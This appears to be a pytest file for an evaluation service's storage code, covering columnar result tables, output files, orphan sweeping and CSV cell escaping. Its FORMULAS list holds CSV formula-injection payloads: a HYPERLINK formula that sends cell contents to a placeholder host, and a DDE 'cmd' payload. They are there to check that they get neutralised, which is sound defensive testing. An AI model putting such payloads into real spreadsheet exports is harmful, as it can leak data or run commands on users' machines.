"""Results per item by column: the same when they are read, a column at a time, and lost only aloud."""

import csv
import io
import math
import os
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import msgpack
import pytest

from evalsvc.errors import ItemsLost
from evalsvc.files import outputs
from evalsvc.files.atomic import FileLost
from evalsvc.files.csv_cells import csv_text, plain_cell
from evalsvc.files.items import LARGE, ItemTable, keep_items, pack_items, read_items, sweep_items
from evalsvc.files.outputs import OutputFile, from_column, keep_output, read_output, to_column

ANSWERS = [
    {"benchmark": "arc", "index": 0, "scores": [[-1.5, 1, -1.25, 0], [-0.1, 0, -3e-300, 1]], "acc": 1, "acc_norm": 1.0},
    {"benchmark": "arc", "index": 7, "acc_norm": 0.0, "acc": 0, "scores": []},
    {"benchmark": "wsc", "index": 0, "text": ['é\n"‹image 188›', ""], "nested": {"b": [None], "a": {}}},
    {"benchmark": "wsc", "index": 2**53 + 1, "acc": "NaN", "nll": "-Infinity", "left": None, "flag": True},
]
MESSY: list[list[dict[str, Any]]] = [
    [],
    [{}],
    [{}, {"a": 1}, {}],
    [{"index": 0, "nll": 0.1 + 0.2}, {"index": 1}, {"index": 2, "nll": -0.0}],
    ANSWERS,
    [{str(key): key} for key in range(300)],
    [{"index": index, "value": 5e-324 * index, "big": -(2**63) + index} for index in range(1000)],
    [{"x": math.nan}, {"x": math.inf}, {"x": -math.inf}],
]


@pytest.mark.parametrize("items", MESSY, ids=lambda items: f"{len(items)} items")
def test_what_is_read_is_what_was_kept(items: list[dict[str, Any]]) -> None:
    """To the order of keys, and to the difference between 1, 1.0 and true, which == does not see."""
    table = ItemTable.from_bytes(pack_items(items))
    assert len(table) == len(items)
    for found in (table, ItemTable.from_bytes(table.to_bytes())):
        assert repr(list(found.rows())) == repr(items)
    for name in table.names:
        assert repr(table.column(name)) == repr([item.get(name) for item in items])


def test_one_column_is_read_without_the_others() -> None:
    """Megabytes of scores would be decoded for every comparison of an accuracy."""
    document = msgpack.unpackb(pack_items(ANSWERS))
    document["columns"] = {key: b"damaged" if key == "scores" else it for key, it in document["columns"].items()}
    table = ItemTable.from_bytes(msgpack.packb(document))
    assert table.column("acc") == [1, 0, None, "NaN"]
    assert [row.get("index") for row in table.rows(["index"])] == [0, 7, 0, 2**53 + 1]
    with pytest.raises(zlib.error):
        table.column("scores")


def test_some_keys_and_some_items() -> None:
    table = ItemTable.from_bytes(pack_items(ANSWERS))
    expected = [{key: item[key] for key in item if key in ("acc", "index")} for item in ANSWERS]
    assert list(table.rows(["acc", "index"])) == expected
    assert list(table.where("benchmark", "wsc").rows()) == ANSWERS[2:]
    assert table.column("nothing") == [None] * 4


def test_what_is_no_table_or_cannot_be_kept_is_refused() -> None:
    for content in (b"\xc0", msgpack.packb({"format": "evalsvc-items/9"})):
        with pytest.raises(ValueError, match="not results per item in the form evalsvc-items/1"):
            ItemTable.from_bytes(content)
    for value in (object(), 2**64):
        with pytest.raises((TypeError, OverflowError)):
            pack_items([{"x": value}])


@pytest.fixture
def large() -> bytes:
    content = pack_items([{"index": index, "noise": os.urandom(16).hex()} for index in range(8_000)])
    assert len(content) > LARGE
    return content


def files(folder: Path) -> list[Path]:
    return sorted(path for path in folder.rglob("*") if path.is_file())


def test_small_in_the_row_and_large_in_a_file(tmp_path: Path, large: bytes) -> None:
    small = pack_items(ANSWERS)
    assert keep_items(tmp_path, small) is small
    assert files(tmp_path) == []
    kept = keep_items(tmp_path, large)
    assert isinstance(kept, str)
    assert [path.name for path in files(tmp_path)] == [kept]
    assert read_items(tmp_path, kept, "it").to_bytes() == large
    assert list(read_items(tmp_path, small, "it").rows()) == ANSWERS


def test_what_is_gone_or_damaged_is_said(tmp_path: Path, large: bytes) -> None:
    kept = keep_items(tmp_path, large)
    (path,) = files(tmp_path)
    path.write_bytes(b"other")
    for words in ("is damaged", "cannot be read: no such file"):
        lost = f"task 'text' of evaluation 3 are lost: .*{words}.*; put the file back .* or ev"
        with pytest.raises(ItemsLost, match=lost):
            read_items(tmp_path, kept, "task 'text' of evaluation 3")
        path.unlink(missing_ok=True)


def test_what_no_row_names_is_swept_but_not_by_a_database_that_names_nothing(tmp_path: Path, large: bytes) -> None:
    """A new database beside an old data folder once would have cost all that the old one names."""
    kept, _orphan = keep_items(tmp_path, large), keep_items(tmp_path, large + b"\xc0")
    assert isinstance(kept, str)
    assert sweep_items(tmp_path, set()) == 0
    (tmp_path / kept[:2] / "cut-off.partial").write_bytes(b"")
    (tmp_path / kept[:2] / "notes.txt").write_text("not ours")
    (tmp_path / "notes").mkdir()
    (tmp_path / "notes" / "mine").write_text("not ours")
    assert sweep_items(tmp_path, {kept}) == 2
    assert {path.name for path in files(tmp_path)} == {kept, "notes.txt", "mine"}


FORMULAS = ["=1+1", '=HYPERLINK("http://x/?"&A1)', "+cmd|' /C'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1"]
PLAIN = [-0.5, -3, None, True, "-Infinity", "-0.5", "+1e-3", "NaN", "a=b", "", " cheese", "coco/fid"]


def test_what_would_be_a_formula_is_text_and_numbers_stay() -> None:
    """pandas reads numbers as they are."""
    assert [plain_cell(text) for text in FORMULAS] == [f"'{text}" for text in FORMULAS]
    assert all(plain_cell(value) is value for value in PLAIN)


@pytest.mark.parametrize("end", ["\r", "\n", "\r\n"])
def test_an_end_of_line_within_a_cell_begins_no_row(end: str) -> None:
    rows = [["metric", "message"], ["coco/fid", f"first{end}=second"], ["loss", "plain"]]
    text = csv_text(rows)
    assert list(csv.reader(io.StringIO(text, newline=""))) == rows
    assert text.startswith("metric,message\n"), "other rows are as short as before"


OUTPUT: bytes = msgpack.packb({"features": bytes(range(256)) * 1000, "n": [1, 2.5, None]})


def keep(folder: Path, output: bytes = OUTPUT, shard: int = 7, attempt: int = 2) -> OutputFile:
    file = keep_output(folder, output, task=3, shard=shard, attempt=attempt)
    assert isinstance(file, OutputFile)
    return file


def in_folder(folder: Path) -> list[str]:
    return sorted(str(path.relative_to(folder)) for path in folder.rglob("*") if path.is_file())


def test_a_large_output_is_a_file_of_its_attempt(tmp_path: Path) -> None:
    file = keep(tmp_path)
    assert in_folder(tmp_path) == ["3/7-2"]
    assert read_output(tmp_path, file) == OUTPUT
    assert from_column(to_column(file)) == file
    keep(tmp_path, attempt=3)
    assert in_folder(tmp_path) == ["3/7-2", "3/7-3"]


def test_a_small_one_stays_in_its_row(tmp_path: Path) -> None:
    """Its bytes are those that the task packed, and none of them is taken for the name of a file."""
    for value in (None, {}, {"sum": 1.5}, dict.fromkeys("abcdefghijklmnopq"), {"bytes": bytes(60_000)}):
        output: bytes = msgpack.packb(value)
        assert len(output) < outputs.LARGE
        assert keep_output(tmp_path, output, task=3, shard=7, attempt=2) is output
        assert to_column(output) is output
        assert from_column(output) is output
    assert in_folder(tmp_path) == []


@pytest.mark.parametrize(
    "put",
    [
        lambda path: None,
        lambda path: path.write_bytes(b""),
        lambda path: path.write_bytes(OUTPUT[:-1] + b"\0"),
        lambda path: os.truncate(os.open(path, os.O_CREAT | os.O_WRONLY), 1 << 40),
        lambda path: path.symlink_to(path.parents[1] / "elsewhere"),
        os.mkfifo,
        os.mkdir,
    ],
)
def test_what_is_gone_or_changed_is_lost(tmp_path: Path, put: Callable[[Path], object]) -> None:
    """A pipe held a merge up for ever, and a sparse file of a terabyte took the worker's memory."""
    (tmp_path / "elsewhere").write_bytes(OUTPUT)
    file = keep(tmp_path)
    file.path(tmp_path).unlink()
    put(file.path(tmp_path))
    with pytest.raises(FileLost, match="3/7-2: "):
        read_output(tmp_path, file)


def test_a_row_that_names_no_file_is_refused() -> None:
    for content in (b"\xc7", b"\xd4\x01\x01", msgpack.packb(msgpack.ExtType(1, msgpack.packb([1, 2])))):
        with pytest.raises(ValueError, match="names no file of an output"):
            from_column(content)


def test_what_nothing_names_is_removed(tmp_path: Path) -> None:
    kept, other = keep(tmp_path), keep(tmp_path, shard=8)
    for orphan in ("3/9-1", "3/x.partial", "4/1-1"):
        (tmp_path / orphan).parent.mkdir(exist_ok=True)
        (tmp_path / orphan).touch()
    (tmp_path / "3" / "notes.txt").touch()
    assert outputs.sweep_outputs(tmp_path, {kept, other}) == 3
    assert in_folder(tmp_path) == ["3/7-2", "3/8-2", "3/notes.txt"]
    outputs.drop_output(tmp_path, 3, 7, 2)
    outputs.drop_output(tmp_path, 3, 7, 99)
    assert in_folder(tmp_path) == ["3/8-2", "3/notes.txt"]
    outputs.drop_outputs(tmp_path, 3)
    outputs.drop_outputs(tmp_path, 5)
    assert list(tmp_path.iterdir()) == []
    assert outputs.sweep_outputs(tmp_path / "nowhere", ()) == 0
